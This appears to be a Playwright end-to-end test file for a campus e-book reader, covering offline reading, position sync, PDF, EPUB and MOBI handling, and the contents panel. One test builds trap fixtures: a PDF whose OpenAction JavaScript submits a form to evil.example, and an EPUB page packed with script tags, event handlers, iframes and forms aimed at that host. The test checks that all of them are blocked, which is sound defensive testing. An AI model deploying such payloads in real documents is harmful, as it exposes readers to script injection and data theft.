import { readFile } from 'node:fs/promises'
import { small } from '#testing/books/small.ts'
import { addBook } from '#testing/journeys/add-book.ts'
import { demo, expect, signIn, test, workerStands } from '#testing/journeys/campus.ts'
import { epub } from '#testing/journeys/epub.ts'
import { cutLine } from '#testing/journeys/interrupted-connection.ts'
import { openBook } from '#testing/journeys/open-book.ts'
import { aBook } from '#testing/server/samples/media.ts'

test.use({ serviceWorkers: 'allow' })

test('a book is read, read on without a network, and found at its place again, here and on another device', {
  tag: '@main',
}, async ({ page, context, browser, campus }) => {
  test.setTimeout(90_000)
  await signIn(page, 'student')
  await page.goto('/books?search=data+structures')
  await workerStands(page)
  const id = await openBook(page, /Data Structures/)
  await page.getByRole('link', { name: /^Read/ }).click()
  const where = page.getByRole('contentinfo').or(page.locator('.reader-foot')).getByRole('status')
  await expect(where).toContainText('1 of')
  await page.keyboard.press('ArrowRight')
  await expect(where).toContainText('2 of')
  // Past the end of the chapter into the next one.
  const first = await where.textContent()
  await page.getByRole('button', { name: 'Next page' }).click()
  await expect(where).not.toHaveText(first ?? '')
  await expect(where).toContainText('1 of')
  const second = await where.textContent()

  await context.setOffline(true)
  await page.getByRole('button', { name: 'Next page' }).click()
  await expect(where).not.toHaveText(second ?? '')
  const offline = await where.textContent()
  await page.reload()
  await expect(where).toHaveText(offline ?? '')

  const kept = page.waitForResponse(
    (reply) => reply.url().endsWith(`/api/books/${id}/place`) && reply.request().method() === 'PUT',
  )
  await context.setOffline(false)
  expect((await kept).ok()).toBe(true)

  const other = await browser.newContext({ baseURL: campus.url, viewport: { width: 360, height: 800 } })
  const elsewhere = await other.newPage()
  await signIn(elsewhere, 'student')
  await elsewhere.goto('/books')
  await elsewhere.getByRole('link', { name: /^Continue reading/ }).click()
  await expect(elsewhere).toHaveURL(new RegExp(`/books/${id}/read$`))
  await expect(elsewhere.locator('.reader-foot').getByRole('status')).toHaveText(offline ?? '')
  await other.close()
})

test('a PDF opens, turns, grows, darkens, and opens again without a network', async ({ page, context }) => {
  await page.goto('/books?search=phy+101')
  await workerStands(page)
  await openBook(page, /PHY 101/)
  const read = page.getByRole('link', { name: /^Read/ })
  await read.click()
  const where = page.locator('.reader-foot').getByRole('status')
  await expect(where).toHaveText('Page 1 of 4')
  await expect(page.getByText('Units and motion').first()).toBeAttached()
  // The last word of a line and the first of the next stay two, in a selection too.
  expect(await page.locator('.textLayer').first().textContent()).toMatch(/\S\n\S/)
  await page.getByRole('button', { name: 'Next page' }).click()
  await expect(where).toHaveText('Page 2 of 4')

  await page.getByRole('button', { name: 'Contents' }).click()
  await page.getByRole('dialog').getByRole('button', { name: 'Forces' }).click()
  await expect(where).toHaveText('Page 3 of 4')
  await page.getByRole('button', { name: 'Reading settings' }).click()
  const width = () =>
    page
      .locator('.pdfViewer .page')
      .first()
      .evaluate((one) => one.clientWidth)
  const before = await width()
  await page.getByRole('button', { name: 'Larger' }).click()
  await expect.poll(width).toBeGreaterThan(before)
  await page.getByText('Dark paper').click()
  await expect(page.locator('.reader')).toHaveAttribute('data-theme', 'dark')
  await expect(page.getByRole('dialog').getByText('On this phone')).toBeVisible()
  await page.keyboard.press('Escape')
  await expect(where).toHaveText('Page 3 of 4')

  await page.waitForFunction(async () => {
    const names = (await (await caches.open('assets')).keys()).map(({ url }) => url)
    return names.some((name) => name.includes('pdf.worker'))
  })
  await context.setOffline(true)
  await page.reload()
  await expect(where).toHaveText('Page 3 of 4')
  await expect(page.getByText('Forces').first()).toBeAttached()

  await page.getByRole('button', { name: 'Search in this book' }).click()
  await page.getByRole('searchbox', { name: 'Search in this book' }).fill('forces')
  await page.keyboard.press('Enter')
  await expect(page.getByRole('search').getByRole('status')).toHaveText(/^\d of \d$/)
  await page.getByRole('button', { name: 'Close the search' }).click()
  await page.getByRole('button', { name: 'Contents' }).click()
  await page.getByRole('dialog').getByLabel('Page').fill('4')
  await page.getByRole('dialog').getByRole('button', { name: 'Go' }).click()
  await expect(where).toHaveText('Page 4 of 4')
  await context.setOffline(false)
})

test('a MOBI opens in pages too', async ({ page }) => {
  await page.goto('/books?search=workshop+practice')
  await openBook(page, /Workshop Practice/)
  await page.getByRole('link', { name: /^Read/ }).click()
  await expect(page.locator('.reader-foot').getByRole('status')).toContainText('1 of')
  await expect(page.locator('.flow-page')).toContainText(/\w{4}/)
})

test('a MOBI that opens only elsewhere is said to, before a byte of it is fetched, and can be downloaded', async ({
  page,
}) => {
  await signIn(page, 'student')
  for (const [title, mobi] of [['Packed as nobody does', small.mobi({ packing: 9 })]] as const) {
    await page.goto('/add-books')
    const file = { name: 'kindle.mobi', mimeType: 'application/octet-stream', buffer: mobi }
    await page.getByLabel('Book file').setInputFiles(file)
    await expect(page.getByText('You can’t read it in the app')).toBeVisible()
    await page.getByRole('textbox', { name: 'Title' }).fill(title)
    await page.getByLabel('Description').fill('For another reader.')
    await page.getByText('Drawn from its title').click()
    await page.getByRole('button', { name: 'Upload Book' }).click()
    const dialog = page.getByRole('dialog')
    await expect(dialog.getByRole('heading', { name: title })).toBeVisible()
    await expect(dialog.getByText('This kind of MOBI opens only in another reader.')).toBeVisible()
    await expect(dialog.getByRole('link', { name: /^Read/ })).toHaveCount(0)
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      dialog.getByRole('link', { name: /^Download/ }).click(),
    ])
    expect(download.suggestedFilename()).toBe(`fuoye-${title}.mobi`)
    expect(mobi.equals(await readFile(await download.path()))).toBe(true)

    // The reader's own address says the same, and downloads nothing.
    const fetched: string[] = []
    page.on('request', (asking) => {
      if (/\.mobi/.test(asking.url())) fetched.push(asking.url())
    })
    await page.goto(`${page.url().replace(/\?.*/, '')}/read`)
    await expect(page.getByRole('alert').filter({ hasText: 'opens only in another reader' })).toBeVisible()
    await expect(page.getByRole('alert').getByRole('link', { name: 'Download' })).toBeVisible()
    expect(fetched).toEqual([])
    page.removeAllListeners('request')
  }
})

const pdfWithScript = Buffer.from(
  [
    '%PDF-1.4',
    '1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\("caught"\\); this.submitForm\\("https://evil.example"\\))>>>>endobj',
    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj',
    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/Annots[4 0 R]>>endobj',
    '4 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 300 400]/A<</S/URI/URI(javascript:window.caught=1)>>>>endobj',
    'trailer<</Root 1 0 R>>',
    '%%EOF',
    '',
  ].join('\n'),
)

test('a large EPUB opens for the bytes of what is read, which opens without a network afterwards', async ({
  page,
  context,
  campus,
}) => {
  const line = await cutLine(campus.url, '/files/')
  try {
    const data = { email: demo.student, password: demo.password }
    await page.request.post(`${line.url}/api/session`, { data })
    const pictures = [1, 2, 3].map((number) => ({
      name: `OPS/${number}.jpg`,
      content: aBook(4_000_000 + number).subarray(16),
      stored: true,
    }))
    await addBook(page, 'pictures.epub', Buffer.from(small.epub('', pictures)), 'A book of pictures')
    // The form's upload did not pass through the proxy that counts.
    await page.goto(`${line.url}${new URL(page.url()).pathname}`)
    await workerStands(page)
    const read = page.getByRole('link', { name: /^Read/ })
    const book = await page.request.get(`${line.url}/api${new URL(page.url()).pathname}`)
    const { opening } = (await book.json()).file
    await expect(read).toContainText(`${Math.round(opening / 1000)} KB · under ₦1`)
    await expect(
      page.getByText('Each chapter loads when you open it; all of them are 12 MB · ≈ ₦10.'),
    ).toBeVisible()
    line.asked.length = 0
    await read.click()
    await expect(page.locator('.flow-page')).toContainText('One.')
    const bytes = line.asked.map(({ range }) =>
      /^bytes=(\d+)-(\d+)$/
        .exec(range ?? '')
        ?.slice(1)
        .map(Number),
    )
    const fetched = bytes.reduce((sum, [from, to] = [0, 12_000_000]) => sum + (to ?? 0) - (from ?? 0) + 1, 0)
    // Exactly the announced bytes.
    expect(fetched, JSON.stringify(line.asked)).toBe(opening)
    await context.setOffline(true)
    await page.reload()
    await expect(page.locator('.flow-page')).toContainText('One.')
    await context.setOffline(false)
  } finally {
    await line.close()
  }
})

test('books with scripts in them are read, and nothing of theirs runs or loads', async ({
  browser,
  campus,
}) => {
  // A page of its own, since blocked loads are logged on the console, and there are many here.
  const context = await browser.newContext({ baseURL: campus.url, viewport: { width: 360, height: 800 } })
  const page = await context.newPage()
  const outside: string[] = []
  page.on('request', (asking) => {
    if (/evil\.example/.test(asking.url())) outside.push(asking.url())
  })
  page.on('dialog', (dialog) => {
    outside.push(dialog.message())
    void dialog.dismiss()
  })
  await signIn(page, 'student')
  const trap = `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>parent.caught = 1</script>
    <style>body { background: url(https://evil.example/style) }</style></head><body onload="window.caught = 1">
    <p onclick="window.caught = 1" style="background: url(https://evil.example/p)">Read <b>this</b> and see.</p>
    <script>window.caught = 1</script><img src="https://evil.example/picture.png" onerror="window.caught = 1"/>
    <img src="none.png" onerror="window.caught = 1"/><iframe src="https://evil.example/frame"></iframe>
    <svg xmlns="http://www.w3.org/2000/svg" onload="window.caught = 1"><script>window.caught = 1</script></svg>
    <a href="javascript:window.caught = 1">follow me</a><object data="https://evil.example/object"/>
    <form action="https://evil.example/form"><input name="x"/></form></body></html>`
  await addBook(page, 'trap.epub', epub(trap), 'A trap in paper')
  await page.getByRole('link', { name: /^Read/ }).click()
  const text = page.locator('.flow-page')
  await expect(text).toContainText('Read this and see.')
  await text.getByText('Read').click()
  await text.getByText('follow me').click()
  const left = await text.evaluate(
    (view) =>
      view.firstElementChild?.shadowRoot
        ?.querySelector('article')
        ?.querySelectorAll(
          'script, style, iframe, object, form, input, svg, [onclick], [onerror], [style], a[href]',
        ).length,
  )
  expect(left).toBe(0)

  await addBook(page, 'trap.pdf', pdfWithScript, 'A trap in ink')
  await page.getByRole('link', { name: /^Read/ }).click()
  await expect(page.locator('.reader-foot').getByRole('status')).toHaveText('Page 1 of 1')
  await expect(page.locator('.pdfViewer canvas').first()).toBeVisible()
  await page.locator('.pdfViewer .page').click({ position: { x: 100, y: 100 } })
  expect(await page.evaluate(() => 'caught' in window)).toBe(false)
  expect(outside).toEqual([])
  await context.close()
})

test('whoever leaves a PDF while its pages are on their way leaves no error behind', async ({ page }) => {
  const { items } = await (await page.request.get('/api/books?search=PHY%20101')).json()
  await page.goto(`/books/${items[0].id}`)
  for (let time = 0; time < 8; time += 1) {
    await page.getByRole('link', { name: /^Read/ }).click()
    await page.locator('.pdfViewer .page').first().waitFor({ state: 'attached' })
    await page.goBack()
    await expect(page.getByRole('link', { name: /^Read/ })).toBeVisible()
  }
})

test('where there is room the contents stand beside the page, say where one is, and go when asked', async ({
  page,
}) => {
  await page.setViewportSize({ width: 1280, height: 800 })
  for (const title of ['PHY 101', 'Data Structures']) {
    await page.goto(`/books?search=${encodeURIComponent(title)}`)
    await openBook(page, new RegExp(title))
    await page.getByRole('link', { name: /^Read/ }).click()
    const side = page.getByRole('complementary', { name: 'Contents' })
    const where = page.locator('.reader-foot').getByRole('status')
    const entry = side.locator('.contents-entry').nth(2)
    await entry.click()
    await expect(entry).toHaveAttribute('aria-current', 'true')
    await expect(where).toHaveText(/^Page 4 of|^1 of/)
    await expect(side).toBeVisible()
    const shown = page.locator('.pdf-pages, .flow-page')
    const [list, pages] = [await side.boundingBox(), await shown.boundingBox()]
    expect(pages?.x).toBeGreaterThanOrEqual((list?.x ?? 0) + (list?.width ?? 0))
    // A tap on its left third turns back, wherever the page is scrolled.
    if (title === 'Data Structures') {
      await shown.click({ position: { x: 20, y: 300 } })
      await expect(entry).not.toHaveAttribute('aria-current', 'true')
    }
    const button = page.getByRole('button', { name: 'Contents' })
    await button.click()
    await expect(side).toBeHidden()
    expect((await shown.boundingBox())?.x).toBeLessThan(pages?.x ?? 0)
    await button.click()
    await expect(side).toBeVisible()
    await page.setViewportSize({ width: 360, height: 800 })
    await expect(side).toBeHidden()
    await page.setViewportSize({ width: 1280, height: 800 })
  }
})
